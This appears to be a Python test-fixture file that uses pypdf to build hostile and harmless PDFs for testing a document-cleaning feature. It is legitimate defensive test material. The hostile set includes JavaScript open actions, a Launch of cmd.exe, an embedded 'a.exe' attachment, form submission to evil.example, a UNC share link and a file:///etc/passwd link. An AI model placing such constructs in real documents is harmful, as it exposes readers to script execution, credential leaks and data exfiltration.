"""Hostile and harmless PDFs, made by the library itself, for the tests of the cleaning."""

import io
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

PAGE_TEXT = b"BT /F1 12 Tf 72 720 Td (Ontslagbrief) Tj ET"


def name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def dictionary(**entries: PdfObject) -> DictionaryObject:
    return DictionaryObject({name(key): value for key, value in entries.items()})


def text(words: str) -> TextStringObject:
    return TextStringObject(words)


def array(*items: PdfObject) -> ArrayObject:
    return ArrayObject(items)


def action(kind: str, **entries: PdfObject) -> DictionaryObject:
    return dictionary(Type=name("Action"), S=name(kind), **entries)


def script() -> DictionaryObject:
    return action("JavaScript", JS=text("app.alert(1)"))


def annotation(subtype: str, **entries: PdfObject) -> DictionaryObject:
    rectangle = array(*(FloatObject(number) for number in (0, 0, 90, 20)))
    return dictionary(Type=name("Annot"), Subtype=name(subtype), Rect=rectangle, **entries)


def letter(change: Callable[[PdfWriter], None] = lambda _: None) -> bytes:
    """A page with words on it, after ``change``."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    content = DecodedStreamObject()
    content.set_data(PAGE_TEXT)
    font = dictionary(Type=name("Font"), Subtype=name("Type1"), BaseFont=name("Helvetica"))
    page[name("Resources")] = dictionary(Font=dictionary(F1=font))
    page[name("Contents")] = writer._add_object(content)
    change(writer)
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def with_root(key: str, value: PdfObject) -> bytes:
    """A letter whose catalogue has this too."""
    return letter(lambda writer: writer.root_object.__setitem__(name(key), value))


def with_page(key: str, value: PdfObject) -> bytes:
    return letter(lambda writer: writer.pages[0].__setitem__(name(key), value))


def with_annotation(subtype: str, **entries: PdfObject) -> bytes:
    """Beside a harmless one."""
    harmless = annotation("Text", Contents=text("noot"))
    return with_page("Annots", array(harmless, annotation(subtype, **entries)))


def file_stream() -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(b"MZ payload")
    return stream


def attached() -> bytes:
    def attach(writer: PdfWriter) -> None:
        writer.add_attachment("a.exe", b"MZ payload")

    return letter(attach)


def encrypted() -> bytes:
    def lock(writer: PdfWriter) -> None:
        writer.encrypt("", "owner", algorithm="RC4-128")

    return letter(lock)


def words_in(raw: bytes) -> str:
    """What a reader finds on the pages."""
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(raw)).pages)


HOSTILE: dict[str, bytes] = {
    "open_action": with_root("OpenAction", script()),
    "open_action_launch": with_root("OpenAction", action("Launch", F=text("cmd.exe"))),
    "document_event": with_root("AA", dictionary(WC=script())),
    "page_event": with_page("AA", dictionary(O=script())),
    "named_script": with_root("Names", dictionary(JavaScript=dictionary(Names=array(text("a"), script())))),
    "attachment": attached(),
    "associated_file": with_root("AF", array(dictionary(Type=name("Filespec"), F=text("a.exe")))),
    "portfolio": with_root("Collection", dictionary(View=name("D"))),
    "xfa": with_root("AcroForm", dictionary(Fields=array(), XFA=text("<xdp/>"))),
    "submit": with_annotation("Widget", A=action("SubmitForm", F=text("https://evil.example"))),
    "remote": with_annotation("Link", A=action("GoToR", F=text("\\\\evil.example\\share"))),
    "embedded_go": with_annotation("Link", A=action("GoToE", T=dictionary())),
    "import": with_annotation("Widget", AA=dictionary(K=action("ImportData", F=text("a")))),
    "file_link": with_annotation("Link", A=action("URI", URI=text("file:///etc/passwd"))),
    "script_link": with_annotation("Link", A=action("URI", URI=text(" JavaScript:alert(1)"))),
    "relative_link": with_annotation("Link", A=action("URI", URI=text("//evil.example/share"))),
    "empty_link": with_annotation("Link", A=action("URI")),
    "print": with_annotation("Link", A=action("Named", N=name("Print"))),
    "chained": with_annotation(
        "Link", A=action("URI", URI=text("https://a.example"), Next=array(action("Launch", F=text("a"))))
    ),
    "unknown_action": with_annotation("Link", A=action("NeverHeardOf")),
    "stray_action": with_root("PieceInfo", dictionary(X=dictionary(Private=script()))),
    "rich_media": with_annotation("RichMedia", RichMediaContent=dictionary()),
    "movie": with_annotation("Movie", Movie=dictionary(F=text("a.mov"))),
    "screen": with_annotation("Screen", A=action("Rendition", OP=NumberObject(0))),
    "three_d": with_annotation("3D"),
    "file_annotation": with_annotation("FileAttachment", FS=dictionary(F=text("a.exe"))),
    "renditions": with_root("Names", dictionary(Renditions=dictionary(Names=array()))),
    "reference": with_page("X", dictionary(Ref=dictionary(F=text("http://evil.example/a.pdf")))),
}

HARMLESS: dict[str, bytes] = {
    "letter": letter(),
    "destination": with_root("OpenAction", array(NumberObject(0), name("Fit"))),
    "go": with_annotation("Link", A=action("GoTo", D=array(NumberObject(0), name("Fit")))),
    "web_link": with_annotation("Link", A=action("URI", URI=text("HTTPS://zorg.example/"))),
    "next_page": with_annotation("Link", A=action("Named", N=name("NextPage"))),
    "structure": with_root(
        "StructTreeRoot",
        dictionary(K=dictionary(S=name("Sound"), P=dictionary(), A=dictionary(O=name("Layout")))),
    ),
    "form": with_annotation("Widget", FT=name("Tx"), T=text("veld"), V=text("waarde")),
}
